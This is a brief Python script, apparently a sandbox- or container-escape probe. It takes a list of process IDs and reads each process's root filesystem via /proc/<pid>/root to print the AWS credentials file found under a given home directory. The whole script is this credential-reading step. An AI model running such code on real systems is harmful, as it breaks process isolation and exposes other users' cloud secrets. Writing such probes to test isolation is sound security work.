"""Leaves its root by that of another process."""

import json
import sys

WORLD = json.loads(sys.argv[1])
from pathlib import Path

for pid in WORLD["pids"]:
    path = Path(f"/proc/{pid}/root{WORLD['home']}/.aws/credentials")
    try:
        print(path.read_text())
    except OSError as error:
        print(error)
